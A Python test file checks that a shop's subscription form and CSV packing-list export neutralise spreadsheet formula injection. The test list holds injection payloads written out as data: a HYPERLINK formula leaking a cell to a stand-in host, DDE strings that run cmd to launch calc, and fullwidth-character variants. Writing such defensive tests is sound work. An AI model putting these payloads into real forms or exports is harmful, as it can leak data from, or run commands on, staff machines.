"""Hostile names typed into the subscribe form reach the packing list that staff open in a
spreadsheet: not one cell may be read as a formula, and each name is still there to read."""

import csv
from datetime import UTC, datetime

import time_machine
from sqlalchemy import select

from shop.core.spreadsheet import FORMULA_STARTS
from shop.extensions import db
from shop.subscriptions.models import Subscription

from ..accounts.factories import make_user, sign_in
from .test_subscribe_demo import BEFORE_DECEMBER_CUTOFF, CANADA, choose, pay

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\uff1dHYPERLINK("http://x.example/?leak=")',
    "\uff0b1+1",
    "\uff20SUM(A1:A9)",
    "\t=1+1",  # the form strips the tab, leaving a formula
    " =1+1",  # and the space
]
AFTER_DECEMBER_CUTOFF = datetime(2026, 12, 11, 9, tzinfo=UTC)


def is_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting (after spaces) with a trigger."""
    stripped = cell.lstrip(" \u3000\u00a0\n")
    return cell.startswith(("\t", "\r")) or bool(stripped and stripped[0] in FORMULA_STARTS)


def test_hostile_names_from_the_subscribe_form_are_text_in_the_packing_list(seeded, client, runner, tmp_path):
    with time_machine.travel(BEFORE_DECEMBER_CUTOFF, tick=False):
        for number, hostile in enumerate(HOSTILE):
            email = f"hostile{number}@example.com"
            with seeded.app_context():
                make_user(email)
            client.post("/account/sign-out")
            sign_in(client, email)
            country = ("GB", "CA")[number % 2]
            address = {
                **CANADA,
                "name": hostile,
                "line1": hostile,
                "line2": hostile,
                "city": hostile,
                "country": country,
                "postcode": "LS1 1AA" if country == "GB" else "M5V 2T6",
            }
            assert choose(client, address=address).location.endswith("/culture-box/subscribe/review")
            assert pay(client).status_code == 303
    with seeded.app_context():
        names = list(db.session.scalars(select(Subscription.ship_name).order_by(Subscription.id)))
    assert names == [h.strip() for h in HOSTILE]  # stored as typed (less the stripped edges)

    csv_path = tmp_path / "2026-12.csv"
    with time_machine.travel(AFTER_DECEMBER_CUTOFF, tick=False):
        result = runner.invoke(args=["box", "run", "2026-12", "--csv", str(csv_path)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(csv_path.open(newline="", encoding="utf-8")))
    assert len(rows) == 1 + len(HOSTILE)
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if is_formula(cell)] == []
    header = rows[0]
    shown = {row[header.index("name")] for row in rows[1:]}
    assert shown == {"'" + h.strip() for h in HOSTILE}
    for row in rows[1:]:
        for column in ("line1", "line2", "city"):
            assert row[header.index(column)] == row[header.index("name")]

    printed = runner.invoke(args=["box", "packing-list", "2026-12"])
    assert printed.exit_code == 0 and not any(is_formula(c) for r in csv.reader(printed.output.splitlines()) for c in r)
